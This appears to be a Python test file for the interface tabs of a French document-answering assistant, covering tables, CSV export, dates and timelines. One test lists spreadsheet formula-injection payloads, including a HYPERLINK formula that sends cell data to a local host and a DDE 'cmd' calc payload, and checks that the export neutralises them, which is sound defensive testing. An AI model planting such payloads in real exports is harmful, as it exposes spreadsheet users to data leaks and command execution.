"""What the tabs beyond the chat show: exact tables, cards, CSV, timeline, status line."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

from assistant.answering import Citation
from assistant.overview import DayCard
from assistant.rows import TerritoryRow
from ui.tab_content import (
    format_status,
    format_timeline,
    french_datetime,
    knowledge_sentence,
    spreadsheet_cell,
    territory_cards,
    territory_sheet,
    territory_table,
    unanswered_csv,
    unanswered_table,
)

CITATION = Citation(
    1, "bilan-exemple.pdf", "8", "3.1 Quelques chiffres", "Le taux de satisfaction est de 92 %.", 0.9, "bilan"
)


def test_the_territory_table_keeps_day_tables_and_skips_head_count_annexes() -> None:
    name = ("Territoire", "Commune de Sauvelière")
    day_row = (name, ("Attentes", "Toucher les jeunes."), ("Suites données", "Budget participatif."))
    rows = [
        TerritoryRow("Commune de Sauvelière", 2, "b.pdf", "4", "2.2", day_row),
        TerritoryRow(
            "Commune de Sauvelière", 2, "b.pdf", "11", "Annexe", (name, ("Personnes présentes", "4"))
        ),
    ]
    assert territory_table(rows) == [
        ["Commune de Sauvelière", "2", "Toucher les jeunes.", "Budget participatif.", "b.pdf, p. 4"]
    ]


def test_a_fiche_lists_the_passages_or_says_there_are_none() -> None:
    sheet = territory_sheet("Commune <b>de</b> Sauvelière", [CITATION])
    assert sheet.startswith("### Fiche territoire : Commune &lt;b&gt;de&lt;/b&gt; Sauvelière\n\n1 passage(s)")
    assert territory_sheet("Nulle-Part", []) == "Aucun passage ne mentionne « Nulle\\-Part »."


def test_unanswered_questions_newest_first_and_as_csv() -> None:
    entries = [
        {"at": "2026-11-01T10:00:00+00:00", "question": "Première ?", "filters": {}, "closest": []},
        {"at": "2026-11-02T10:00:00+00:00", "question": "Seconde, avec « guillemets » ?",
         "reason": "Les documents ne donnent pas la date.", "partial": True,
         "filters": {"kind": "bilan", "session": 2}, "closest": [{"source": "b.pdf", "page": "4"}]},
    ]  # fmt: skip
    table = unanswered_table(entries)
    assert table[0] == [
        "2 novembre 2026 à 11 h 00", "Seconde, avec « guillemets » ?",
        "Les documents ne donnent pas la date.", "kind=bilan, session=2", "b.pdf p. 4"
    ]  # fmt: skip
    assert table[1][2] == "Aucun passage ne répond à la question."  # declined (or written before the reason)
    parsed = list(csv.reader(io.StringIO(unanswered_csv(entries)), delimiter=";"))
    assert parsed[0] == ["Date", "Question", "Ce qui manque", "Filtres", "Passages les plus proches"]
    assert parsed[1][0] == "2026-11-02T10:00:00+00:00"  # the file keeps sortable stamps
    assert [row[1] for row in parsed[1:]] == ["Seconde, avec « guillemets » ?", "Première ?"]


def test_no_exported_cell_can_run_as_a_formula() -> None:
    """Issue 18: a declined question such as « =HYPERLINK(…) » opened by a facilitator in a
    spreadsheet ran; every cell starting like a formula is now written as text."""
    attacks = [
        '=HYPERLINK("http://127.0.0.1:9/?d="&A2;"x")',
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ]
    at = "2026-11-01T10:00:00+00:00"
    entries = [{"at": at, "question": a, "filters": {"territory": a}, "closest": []} for a in attacks]
    rows = list(csv.reader(io.StringIO(unanswered_csv(entries)), delimiter=";"))[1:]
    assert [row[1] for row in rows] == [f"'{attack}" for attack in reversed(attacks)]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert spreadsheet_cell("Une question ?") == "Une question ?"  # others untouched


def test_dates_are_french_local_time() -> None:
    assert french_datetime("2026-07-03T12:05:00+00:00") == "3 juillet 2026 à 14 h 05"  # summer: UTC+2
    assert french_datetime("2026-12-02T04:38:00+00:00") == "2 décembre 2026 à 5 h 38"  # winter: UTC+1
    assert french_datetime("pas une date") == "pas une date"


def test_the_timeline_shows_each_day_with_its_sources() -> None:
    day = DayCard(
        3, "jeudi 21 mai 2026", "Port-Aiglantine", "Coopérer", ("Ville de Port-Aiglantine",), (CITATION,)
    )
    assert format_timeline([day]) == (
        "### Journée 3 — Coopérer\n\njeudi 21 mai 2026 · Port\\-Aiglantine\n\n"
        "Territoires : Ville de Port\\-Aiglantine\n\nSources : [1] `Bilan` bilan\\-exemple.pdf, p. 8"
    )
    assert format_timeline([]) == "Aucune journée n'est décrite dans les documents indexés."


def test_the_header_says_what_the_assistant_knows_in_one_sentence() -> None:
    report, note, other = (
        SimpleNamespace(kind="bilan"),
        SimpleNamespace(kind="notes"),
        SimpleNamespace(kind="x"),
    )
    assert knowledge_sentence([report, *[note] * 4], 4) == (
        "L'assistant connaît le bilan des journées d'initiation et les notes de quatre séances "
        "(quatre journées) ; chaque réponse cite les passages qui l'appuient."
    )
    assert knowledge_sentence([note], 1).startswith(
        "L'assistant connaît les notes d'une séance (une journée)"
    )
    assert "et un autre document ;" in knowledge_sentence([report, other], 0)
    assert knowledge_sentence([], 0).startswith("Aucun document n'est encore indexé")


def test_territories_as_cards_for_a_phone() -> None:
    table = [["Commune de Sauvelière", "2", "Toucher les *jeunes*.", "", "b.pdf, p. 4"]]
    assert territory_cards(table) == (
        "**Commune de Sauvelière** · journée 2  \n"
        "Attentes : Toucher les \\*jeunes\\*.  \n*Source : b.pdf, p. 4*"
    )
    assert territory_cards([]) == "Aucun territoire n'est décrit dans les documents indexés."


def test_status_line() -> None:
    assert format_status([], 0, "m", "extractif").startswith("Aucun document indexé")
    line = format_status(["bilan-exemple.pdf", "journee-1.md"], 42, "all-MiniLM-L6-v2", "extractif")
    assert line.startswith("**2 document(s) indexé(s)** (42 passages) : bilan\\-exemple.pdf, journee\\-1.md")
    assert "all\\-MiniLM\\-L6\\-v2" in line and "extractif" in line
